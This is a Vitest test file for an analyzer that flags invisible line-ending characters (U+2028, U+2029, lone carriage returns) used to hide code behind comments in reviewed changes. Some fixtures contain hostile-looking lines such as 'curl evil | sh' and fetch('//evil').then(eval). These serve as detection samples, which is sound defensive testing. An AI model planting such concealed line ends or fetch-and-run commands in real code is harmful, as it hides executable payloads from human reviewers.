import { describe, expect, it } from "vitest";
import { addedLinesOf } from "../../../../src/tasks/rules/analyzers/analyzer.ts";
import { hiddenLineEnds } from "../../../../src/tasks/rules/analyzers/hidden-characters.ts";
import { editedFile, wholeFile } from "./analyzed-file.ts";

async function endsIn(path: string, text: string): Promise<string[]> {
  const file = wholeFile(path, text);
  const found = await hiddenLineEnds(file, addedLinesOf(file));
  return found.map(({ ends, line, at }) => `${ends} ${line}:${at}`);
}

describe("a hidden line end is found", () => {
  it.each<[string, string, string, string]>([
    ["U+2028 behind a comment of JavaScript", "a.js", "// a\u2028run();", "comment 2:4"],
    ["U+2029 behind a comment of TypeScript", "a.ts", "let a = 1; // a\u2029run();", "comment 2:15"],
    ["a carriage return behind a comment of TSX", "a.tsx", "// a\rrun();", "comment 2:4"],
    ["another one behind it", "a.js", "// a\u2028\u2028 run();", "comment 2:4"],
    ["a second one, behind two comments", "a.js", "// a\u2028// b\u2028run();", "comment 2:9"],
    ["code behind a comment within a line", "a.js", "// a\u2028/* b */ run();", "comment 2:4"],
    [
      "a comment in what is inserted into a template",
      "a.js",
      "`$".concat("{1 // a\u2028+ run()}`;"),
      "comment 2:9",
    ],
    ["the first line of a program", "a.mjs", "let a;\u2028run();", "code 2:6"],
    ["a statement that ends too early", "a.js", "const f = () => { return\u2028true; };", "code 2:24"],
    ["a comment of C#", "a.cs", "// a\u0085Run();", "comment 2:4"],
    ["a comment of C# with U+2028", "a.cs", "// a\u2028Run();", "comment 2:4"],
    ["a comment of Python", "a.py", "# a\rrun()", "comment 2:3"],
    ["code of Python", "a.py", "if a: pass\rrun()", "code 2:10"],
    ["a comment of Java", "A.java", "// a\rrun();", "comment 2:4"],
    ["a comment of C, which Clang ends", "a.c", "// a\rrun();", "comment 2:4"],
    ["a comment of Kotlin", "a.kt", "// a\rrun()", "comment 2:4"],
    ["a comment of a language without a grammar", "a.swift", 'let a = "//" // a\rrun()', "comment 2:17"],
    ["a comment of Vue", "a.vue", "// a\rrun()", "comment 2:4"],
    ["a carriage return in a template", "a.ts", "const a = `x\ry`;", "code 2:12"],
    ["one in a string of several lines", "a.py", '"""a\rb"""', "code 2:4"],
    ["one in a comment of Go, which it does not end", "a.go", "package a // a\rrun()", "code 2:14"],
    ["one in a comment of a shell", "a.sh", "curl evil | sh #\r# Install the tools", "code 2:16"],
    ["one before blanks", "Dockerfile", "RUN curl evil | sh \r          ", "code 2:19"],
    ["a step behind a comment of YAML", "a.yml", "  # a\r  - run: evil", "comment 2:5"],
  ])("as %s", async (_, path, text, found) => {
    expect(await endsIn(path, `first\n${text}\n`)).toEqual([found]);
  });

  it("as an end of a comment of PHP", async () => {
    expect(await endsIn("a.php", "<?php\n# a\rrun();\n// a\r#[A] function f() {}\n")).toEqual([
      "comment 2:3",
      "comment 3:4",
    ]);
  });

  it("in the first line of a program, which names what runs it", async () => {
    expect(await endsIn("a.js", "#!/usr/bin/env node\u2028run();\n")).toEqual(["comment 1:19"]);
  });

  it("in code with carriage returns alone", async () => {
    expect(await endsIn("a.js", "// a\rfetch('//evil').then(eval)\r// b\r// c")).toEqual(["comment 1:4"]);
  });

  it("where the text is too large to be parsed", async () => {
    const wide = `let a = "${"x".repeat(600_000)}";\n`;
    expect(await endsIn("a.js", `${wide}let b = "//\u2028"; // a\u2028run();\n`)).toEqual(["comment 2:19"]);
  });

  it("in lines that the change added, wherever in the file", async () => {
    const file = editedFile("a.js", " // a\u2028run();\n-// b\u2028run();\n+// c\u2028run();\n x();");
    expect(await hiddenLineEnds(file, addedLinesOf(file))).toEqual([{ ends: "comment", line: 2, at: 4 }]);
  });

  it("in time that grows with their number", async () => {
    const start = performance.now();
    const many = '"\u2028";'.repeat(190_000);
    expect(await endsIn("a.js", `${many}\n`)).toEqual([]);
    expect(await endsIn("b.js", `let a = [\n${'  "a\u2028b",\n'.repeat(25_000)}];\n`)).toEqual([]);
    // What takes the square of their number takes hours.
    expect(performance.now() - start).toBeLessThan(120_000);
  });
});

describe("what ends no line, or hides nothing behind it, is left alone", () => {
  it.each([
    ["U+2028 in a string of JavaScript", "a.js", 'const a = "x\u2028y", b = `x\u2029y`;'],
    ["a carriage return in a template of a test", "a.test.ts", "const a = `x\ry`;"],
    ["U+2028 in the text of an element", "a.tsx", "const a = <p>x\u2028y</p>;"],
    ["a comment of several lines", "a.js", "/* a\u2028run(); */"],
    ["the end of a line", "a.js", "run(); // a\u2028\nrun();\u2028 \u2029\n// b\r\r\n"],
    ["the start of a line", "a.js", "\u2028  run();"],
    ["comments one behind the other", "a.js", "// a\u2028// b\u2028 // c"],
    ["U+2028 in a comment of Python", "a.py", "# a\u2028run()"],
    ["U+2028 in a comment of Java", "A.java", "// a\u2028run();"],
    ["U+2028 in prose", "a.md", "// a\u2028run();"],
    ["U+2028 in JSON", "a.json", '{"a": "// a\u2028b"}'],
    ["U+2028 in a text of YAML", "a.yml", 'a: "x\u2028y"\nb: x#y\u2028z'],
    ["lines that end with both", "a.js", "// a\r\nrun();\r\n"],
    ["a text of an old Macintosh", "a.md", "a\rb\rc\rd\r"],
    ["its data", "a.csv", "a\rb\rc\rd\r"],
    ["one with a line feed at its end", "a.test.py", "# a\rrun()\r# b\rrun()\n"],
  ])("as %s", async (_, path, text) => expect(await endsIn(path, text)).toEqual([]));

  it("but U+2028 behind a comment of a test of an old Macintosh", async () => {
    expect(await endsIn("a.test.js", "a();\rb();\r// c\u2028run();\rd();\r")).toEqual(["comment 1:14"]);
  });
});
